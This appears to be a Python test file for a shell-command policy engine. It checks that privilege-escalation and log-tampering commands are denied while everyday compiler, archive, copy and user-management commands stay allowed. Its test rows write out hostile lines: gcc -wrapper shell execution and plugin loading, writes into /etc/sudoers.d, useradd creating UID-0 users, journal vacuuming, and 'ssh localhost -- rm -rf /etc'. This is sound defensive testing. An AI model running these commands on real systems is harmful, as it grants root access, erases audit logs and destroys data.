"""Outside attack W, findings 9, 10, 11, 13 and 14, with the shipped policy: compilers and
binary tools as writers (and the code their options run), writers' option grammars, programs
that remove what they archive or move, credential tools, downloaders and copiers, and
`ssh host -- CMD`. Each class has an attack half (denied or held) and an honest half (the
everyday use stays as it was)."""

from __future__ import annotations

from bastion.command_control.policy import evaluate
from tests.rows import each
from tests.test_policy import action

C = "/etc/sudoers.d/x"  # a file no-credential-file-writes protects
LOG = "/var/log/btmp.1"  # a file no-log-tampering protects


@each(("line", "expected"), [
    # the attack's lines
    (f"gcc -wrapper /bin/sh,-c,'touch {C}; exec \"$0\" \"$@\"' x.c", "deny"),
    (f"gcc -E -P -x c --output {C} /tmp/in", "deny"),
    (f"cpp -P -x c /tmp/in {C}", "deny"),
    # other spellings of the output
    (f"gcc -E -P -x c --output={C} /tmp/in", "deny"),
    (f"gcc -E --outp {C} /tmp/in", "deny"),
    (f"gcc -o{C} /tmp/x.c", "deny"),
    (f"gcc -MD -MF {C} -c x.c", "deny"),
    (f"gcc -MD -MF{C} -c x.c", "deny"),
    (f"gcc -Wp,-MD,{C} -c x.c", "deny"),
    (f"gcc -Wl,-Map={C} x.c", "deny"),
    (f"gcc -Wl,-Map,{C} x.c", "deny"),
    (f"gcc -Wl,-o,{C} x.c", "deny"),
    (f"gcc -Xlinker -Map -Xlinker {C} x.c", "deny"),
    (f"gcc -aux-info {C} -c x.c", "deny"),
    (f"gcc -fdump-tree-all={C} -c x.c", "deny"),
    (f"gcc -save-temps -o {C}.o -c x.c", "deny"),
    ("cd /etc/sudoers.d && gcc -save-temps -c /tmp/x.c", "confirm"),  # x.i, x.s here
    ("gcc -dumpdir /etc/sudoers.d/ -c x.c", "confirm"),
    # versioned and cross names
    (f"gcc-12 -o {C} /tmp/x.c", "deny"),
    (f"x86_64-linux-gnu-gcc-12 -o {C} /tmp/x.c", "deny"),
    (f"g++-12 -o {C} /tmp/x.c", "deny"),
    (f"clang-15 -o {C} /tmp/x.c", "deny"),
    (f"clang++ -o {C} /tmp/x.c", "deny"),
    (f"c++ --output {C} /tmp/x.c", "deny"),
    (f"aarch64-linux-gnu-cpp /tmp/in {C}", "deny"),
    # what runs code is code
    (f"gcc -wrapper tee,{C} x.c", "deny"),
    ("gcc -B/tmp/evil x.c", "confirm"),
    ("gcc -B /tmp/evil x.c", "confirm"),
    ("gcc -specs=/tmp/evil.specs x.c", "confirm"),
    ("gcc -fplugin=/tmp/p.so x.c", "confirm"),
    ("gcc @/tmp/options x.c", "confirm"),
    ("clang --ld-path=/tmp/ld x.c", "confirm"),
    ("clang --sysroot=/tmp/root x.c", "confirm"),
    ("gcc -Xclang -load -Xclang /tmp/p.so x.c", "confirm"),
    ("gcc -Wl,-plugin,/tmp/p.so x.c", "confirm"),
    ("GCC_EXEC_PREFIX=/tmp/evil/ gcc x.c", "confirm"),
    ('gcc $CFLAGS x.c', "confirm"),  # any option at all, -wrapper among them
    # the binary tools
    (f"as -o {C} x.s", "deny"),
    (f"as -a={C} x.s", "deny"),
    (f"ld -o {C} x.o", "deny"),
    (f"ld.bfd --output={C} x.o", "deny"),
    (f"ld.gold -Map {C} x.o", "deny"),
    (f"ld.lld -o{C} x.o", "deny"),
    ("ld -plugin /tmp/p.so x.o", "confirm"),
    (f"objcopy /tmp/x {C}", "deny"),
    (f"objcopy -O binary /tmp/x {C}", "deny"),
    (f"objcopy --dump-section .text={C} /tmp/x", "deny"),
    (f"objcopy {C}", "deny"),  # in place
    (f"strip -o {C} /tmp/x", "deny"),
    (f"strip {C}", "deny"),
    (f"x86_64-linux-gnu-strip {C}", "deny"),
    (f"rustc -o {C} /tmp/x.rs", "deny"),
    (f"rustc --emit=link={C} /tmp/x.rs", "deny"),
    ("rustc --out-dir /etc/sudoers.d /tmp/x.rs", "confirm"),
    ("rustc --extern m=/tmp/libm.so /tmp/x.rs", "confirm"),  # a procedural macro runs
    ("rustc -C codegen-backend=/tmp/b.so /tmp/x.rs", "confirm"),
    ("javac -d /etc/sudoers.d /tmp/X.java", "confirm"),
    ("javac -processorpath /tmp/p.jar X.java", "confirm"),
    ("javac -J-javaagent:/tmp/a.jar X.java", "confirm"),
    # honest halves
    ("gcc -O2 -Wall -o /tmp/x /tmp/x.c", "allow"),
    ("gcc -c x.c", "allow"),
    ("cc -o hello hello.c -lm", "allow"),
    ("gcc -I/etc/ssh -DX=1 -o /tmp/a a.c", "allow"),
    ("gcc -MD -MF /tmp/x.d -c x.c", "allow"),
    ("gcc -Wl,-Map=/tmp/x.map -o /tmp/x x.c", "allow"),
    ("gcc -save-temps -c /tmp/x.c", "allow"),
    ("gcc-12 -fsanitize=address -g -o /tmp/x x.c", "allow"),
    ("cpp -P x.c", "allow"),
    ("cpp -P x.c /tmp/out.i", "allow"),
    ("clang -target aarch64-linux-gnu -c x.c", "allow"),
    ("objcopy --only-keep-debug /tmp/x /tmp/x.debug", "allow"),
    ("strip /tmp/x", "allow"),
    ("ld -o /tmp/a a.o", "allow"),
    ("rustc -O /tmp/x.rs", "allow"),
    ("javac -d /tmp/out X.java", "allow"),
    ("gcc --version", "allow"),
])
def test_compilers_and_binary_tools_write_their_output_and_their_code_options_are_code(
        default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # the attack's lines
    (f"uniq --group /tmp/in {C}", "deny"),
    (f"uniq --all-repeated /tmp/in {C}", "deny"),
    (f"xxd -r -p -n foo /tmp/hex {C}", "deny"),
    (f"zstdmt -qd /tmp/x.zst -o {C}", "deny"),
    (f"pzstd -d /tmp/x.zst -o {C}", "deny"),
    ("pixz -d /tmp/x.tpxz /etc/sudoers.d/x", "deny"),
    (f"script -q -o 100000 {C} -c true", "deny"),
    (f"fallocate -x -l 10 {C}", "deny"),
    (f"zip --out {C} /tmp/y.zip", "deny"),
    # other spellings and options of the same programs
    (f"uniq --gr /tmp/in {C}", "deny"),
    (f"uniq --all-repeated=separate /tmp/in {C}", "deny"),
    (f"uniq -f 1 /tmp/in {C}", "deny"),
    (f"xxd -r -p -name foo /tmp/hex {C}", "deny"),
    (f"xxd -r -p -nfoo /tmp/hex {C}", "deny"),
    (f"xxd -r -bits /tmp/hex {C}", "deny"),
    (f"xxd -cols 8 /tmp/hex {C}", "deny"),
    (f"xxd -C -i /tmp/hex {C}", "deny"),
    (f"xxd -R always /tmp/hex {C}", "deny"),
    (f"xxd --seek 3 /tmp/hex {C}", "deny"),
    (f"script -q --output-limit 100000 {C} -c true", "deny"),
    (f"script -q -t{C} /tmp/t -c true", "deny"),
    (f"script -q --timing={C} /tmp/t -c true", "deny"),
    (f"fallocate --posix -l 10 {C}", "deny"),
    (f"fallocate -n -l 10 {C}", "deny"),
    (f"zip -O {C} /tmp/y.zip", "deny"),
    (f"zip -lf {C} /tmp/y.zip a", "deny"),
    (f"zip -tt 2020-01-01 {C} a", "deny"),
    (f"zip -TT'touch {C}' -T /tmp/a.zip b", "deny"),
    # the same mistake in other writers' tables
    (f"cp --backup /tmp/x {C}", "deny"),
    (f"install --backup /tmp/x {C}", "deny"),
    (f"install --context /tmp/x {C}", "deny"),
    (f"mkfifo -Z {C}", "deny"),
    (f"mknod -Z {C} p", "deny"),
    (f"editcap -t 1 /tmp/a.pcap {C}", "deny"),
    (f"editcap --log-file {C} /tmp/a.pcap /tmp/b.pcap", "deny"),
    (f"htpasswd -r 1000 -c {C} u", "deny"),
    (f"patch -x 1 {C} /tmp/p.diff", "deny"),
    (f"patch --quoting-style literal {C} /tmp/p.diff", "deny"),
    (f"rsync --log-format %n /tmp/x {C}", "deny"),
    # honest halves
    ("uniq --group /etc/passwd /tmp/out", "allow"),
    ("uniq -c /tmp/in", "allow"),
    ("xxd /etc/sudoers", "allow"),
    (f"xxd -r -p -n foo {C} /tmp/out", "allow"),
    ("xxd -cols 8 /etc/sudoers /tmp/out", "allow"),
    ("script -q -o 100000 /tmp/ts -c true", "allow"),
    ("fallocate -x -l 10 /tmp/f", "allow"),
    ("cp --backup /etc/sudoers /tmp/x", "allow"),
    ("zip -r /tmp/x.zip /etc", "allow"),
    ("zip --out /tmp/y.zip /tmp/x.zip", "allow"),
    ("mkfifo -Z /tmp/fifo", "allow"),
    ("zstdmt -q /tmp/big.log", "allow"),
])
def test_writers_option_tables_read_each_option_as_the_program_does(default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # the attack's lines
    (f"gio copy /tmp/in {C}", "deny"),
    (f"gio save {C}", "deny"),
    (f"gio remove {LOG}", "deny"),
    (f"tar -cf x.tar --remove-files {LOG}", "deny"),
    (f"zip -qm x.zip {LOG}", "deny"),
    ("journalctl --vacuum-time=1s", "deny"),
    # gio's other verbs and URIs
    (f"gio copy /tmp/in file://{C}", "deny"),
    (f"gio copy /tmp/in admin://{C}", "deny"),
    ("gio copy /tmp/in /etc/sudoers.d", "deny"),
    (f"gio move /tmp/in {C}", "deny"),
    (f"gio move {LOG} /tmp/x", "deny"),
    (f"gio rm -f {LOG}", "deny"),
    (f"gio trash {LOG}", "deny"),
    (f"gio rename {LOG} y", "deny"),
    ("gio rename /etc/sudoers.d/a b", "deny"),
    ("gio set /etc/sudoers unix::mode 0777", "deny"),
    (f"gio mkdir {C}", "deny"),
    ("gio open /tmp/x.desktop", "confirm"),
    ("gio launch /tmp/x.desktop", "confirm"),
    ("gio frobnicate /etc/sudoers", "confirm"),  # a verb not read here is held
    # tar's and zip's other spellings
    (f"tar --remo -cf x.tar {LOG}", "deny"),
    (f"tar czf x.tgz --remove-files {LOG}", "deny"),
    ("tar -C /var/log -cf /tmp/x.tar --remove-files btmp.1", "deny"),
    (f"zip --move x.zip {LOG}", "deny"),
    (f"zip -rm x.zip {LOG}", "deny"),
    ("ls /var/log/btmp* | zip -m x.zip -@", "confirm"),  # names from stdin, removed
    ("journalctl --vac=1s", "deny"),
    ("journalctl --rotate", "deny"),
    ("journalctl -D /var/log/journal/abc --vacuum-size=1", "deny"),
    # honest halves
    ("gio copy /tmp/a /tmp/b", "allow"),
    ("gio info /etc/sudoers", "allow"),
    ("gio list /etc", "allow"),
    ("gio cat /etc/hostname", "allow"),
    ("tar -cf /tmp/x.tar --remove-files /tmp/a", "allow"),
    (f"tar -cf /tmp/x.tar {LOG}", "allow"),
    ("zip -qm /tmp/x.zip /tmp/a", "allow"),
    ("ls /tmp/a* | zip /tmp/x.zip -@", "allow"),
    (f"zip -q /tmp/x.zip {LOG}", "allow"),
    ("journalctl -u ssh --since today", "allow"),
    ("journalctl -D /tmp/j --vacuum-time=1s", "allow"),
])
def test_gio_and_the_programs_that_remove_what_they_archive_are_writes_and_removals(
        default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "rule"), [
    # the attack's lines
    ("useradd -o --ui 0 --pa HASH evil", "no-credential-useradd"),
    ("useradd -o -u +0 evil", "no-credential-useradd"),
    ("chsh -s /tmp/x root", "no-credential-tools"),
    ("groupmems -g root -a x", "no-credential-tools"),
    ("groupmod -g 0 x", "no-credential-tools"),
    ("pwconv", "no-credential-tools"),
    ("pwck -s", "no-credential-tools"),
    ("grpck -s", "no-credential-tools"),
    ("echo 'root:x:0:0::/root:/bin/bash' | newusers", "no-credential-tools"),
    # other spellings and kin
    ("useradd -u -0 evil", "no-credential-useradd"),
    ("useradd --ui=0 evil", "no-credential-useradd"),
    ("useradd -u ' 00' evil", "no-credential-useradd"),
    ("useradd -pHASH evil", "no-credential-useradd"),
    ("useradd -mpHASH evil", "no-credential-useradd"),
    ("useradd --pas HASH evil", "no-credential-useradd"),
    ("useradd -o -u 1000 evil", "no-credential-useradd"),  # another user's ID
    ("useradd --non-unique -u 1000 evil", "no-credential-useradd"),
    ("useradd -K UID_MIN=0 -K UID_MAX=0 evil", "no-credential-useradd"),
    ("adduser -uid 0 evil", "no-credential-useradd"),
    ("adduser --ui 0 evil", "no-credential-useradd"),
    ("useradd -G sudo evil", "no-credential-privileged-group"),
    ("useradd -G users,wheel evil", "no-credential-privileged-group"),
    ("useradd -g 0 evil", "no-credential-privileged-group"),
    ("useradd --groups=docker evil", "no-credential-privileged-group"),
    ("adduser bob sudo", "no-credential-privileged-group"),
    ("adduser --ingroup root evil", "no-credential-privileged-group"),
    ("groupadd -g 0 evilg", "no-credential-privileged-group"),
    ("groupadd -o -g 27 evilg", "no-credential-privileged-group"),
    ("groupadd -p HASH evilg", "no-credential-privileged-group"),
    ("addgroup --gid 0 evilg", "no-credential-privileged-group"),
    ("chfn -f x root", "no-credential-tools"),
    ("pwunconv", "no-credential-tools"),
    ("grpconv", "no-credential-tools"),
    ("pwck", "no-credential-tools"),  # offers to delete entries
    ("newusers /tmp/list", "no-credential-tools"),
    ("chgpasswd < /tmp/list", "no-credential-tools"),
    ("deluser bob", "no-credential-tools"),
    ("delgroup g", "no-credential-tools"),
    ("lusermod -u 0 bob", "no-credential-tools"),
    ("sudo chsh -s /bin/sh bob", "no-credential-tools"),
])
def test_every_tool_that_changes_credentials_is_denied_in_every_spelling(default_policy, line, rule):
    decision = evaluate(default_policy, line, role="engineer", target="web01")
    assert (decision.action, decision.rule) == ("deny", rule)


@each(("line", "expected"), [
    ("useradd -m -s /bin/bash bob", "alert"),
    ("useradd -m -c 'Bob Example' -G users bob", "alert"),
    ("useradd -m -k /etc/skel bob", "alert"),
    ("useradd -u 1500 -m bob", "alert"),
    ("adduser bob", "alert"),
    ("adduser --disabled-password --gecos '' bob", "alert"),
    ("groupadd developers", "alert"),
    ("groupadd -g 1500 developers", "alert"),
    ("pwck -r", "allow"),
    ("pwck -qr", "allow"),
    ("grpck -r /etc/group /etc/gshadow", "allow"),
    ("groupmems -g developers -l", "allow"),
    ("chage -l bob", "allow"),
    ("id bob", "allow"),
])
def test_creating_ordinary_users_and_checking_the_account_files_stay_as_they_were(
        default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # the attack's lines
    ("aws s3 cp s3://b/k /etc/sudoers.d/x", "deny"),
    ("docker cp c:/x /etc/sudoers.d/x", "deny"),
    ("kubectl cp ns/pod:/x /etc/sudoers.d/x", "deny"),
    ("wget2 -O /etc/sudoers.d/x http://h/x", "deny"),
    ("http --download -o /etc/sudoers.d/x http://h/x", "deny"),
    ("xh -o /etc/sudoers.d/x http://h/x", "deny"),
    ("rclone copyto remote:x /etc/sudoers.d/x", "deny"),
    ("axel -o /etc/sudoers.d/x http://h/x", "deny"),
    ("ddrescue /tmp/x /etc/sudoers.d/x", "deny"),
    ("dcfldd of=/etc/sudoers.d/x if=/tmp/x", "deny"),
    ("coredumpctl -o /etc/sudoers.d/x dump", "deny"),
    ("ssh localhost -- rm -rf /etc", "deny"),
    # other verbs, spellings and kin
    ("aws s3 cp s3://b/k /etc/sudoers.d/", "deny"),
    ("aws --profile p s3 sync s3://b/ /etc/sudoers.d", "deny"),
    ("aws s3 cp s3://b/k /etc/sudoers.d/x --region eu-west-1", "deny"),
    (f"aws s3 mv {LOG} s3://b/", "deny"),
    ("aws s3api get-object --bucket b --key k /etc/sudoers.d/x", "deny"),
    ("docker container cp c:/x /etc/sudoers.d", "deny"),
    ("podman cp c:/x /etc/sudoers.d/x", "deny"),
    ("nerdctl cp c:/x /etc/sudoers.d/x", "deny"),
    ("kubectl -n ns cp pod:/x /etc/sudoers.d/x -c ctr", "deny"),
    ("kubectl cp pod:/x /etc/sudoers.d/x -n ns", "deny"),
    ("oc cp pod:/x /etc/sudoers.d/x", "deny"),
    ("cd /etc/sudoers.d && http -d http://h/y", "confirm"),  # a name the server chooses
    ("xh --output=/etc/sudoers.d/x http://h/x", "deny"),
    ("rclone copy remote:x /etc/sudoers.d", "deny"),
    ("rclone sync remote:x /etc/sudoers.d", "deny"),
    (f"rclone move {LOG} remote:x", "deny"),
    (f"rclone delete {LOG}", "deny"),
    ("rclone frob remote:x /etc/sudoers.d", "confirm"),
    ("cd /etc/sudoers.d && axel http://h/y", "deny"),
    ("ddrescue /tmp/x /tmp/y /etc/sudoers.d/map", "deny"),
    ("dcfldd if=/tmp/x of:='tee /etc/sudoers.d/x'", "deny"),
    ("dc3dd if=/tmp/x hof=/etc/sudoers.d/x", "deny"),
    ("coredumpctl dump --output=/etc/sudoers.d/x", "deny"),
    ("ssh -p 22 localhost -- touch /etc/sudoers.d/x", "deny"),
    ("ssh localhost -t -- touch /etc/sudoers.d/x", "deny"),
    # their other verbs stay judged as an unread program's files
    ("docker build -f /etc/sudoers.d/x .", "confirm"),
    ("kubectl apply -f /etc/sudoers.d/x", "confirm"),
    ("aws configure set x /etc/sudoers.d/x", "confirm"),
    ("rclone config file /etc/sudoers.d/x", "confirm"),
    # honest halves
    ("aws s3 cp /etc/hosts s3://b/k", "allow"),
    ("aws s3 cp s3://b/k /tmp/x", "allow"),
    ("aws s3 ls s3://b", "allow"),
    ("docker cp /etc/hosts c:/tmp/x", "allow"),
    ("docker ps", "allow"),
    ("kubectl get pods", "allow"),
    ("rclone ls remote:", "allow"),
    ("rclone copy remote:x /tmp/y", "allow"),
    ("wget2 -O /tmp/x http://h/x", "allow"),
    ("http GET http://h/x", "allow"),
    ("ddrescue /dev/sdb /tmp/img /tmp/map", "allow"),
    ("dcfldd if=/dev/zero of=/tmp/x bs=1M count=1", "allow"),
    ("coredumpctl list", "allow"),
    ("coredumpctl -o /tmp/core dump 123", "allow"),
    ("ssh localhost -- uptime", "alert"),
    ("ssh localhost -p 22 -N", "alert"),
])
def test_downloaders_and_copiers_write_their_local_destination(default_policy, line, expected):
    assert action(default_policy, line) == expected
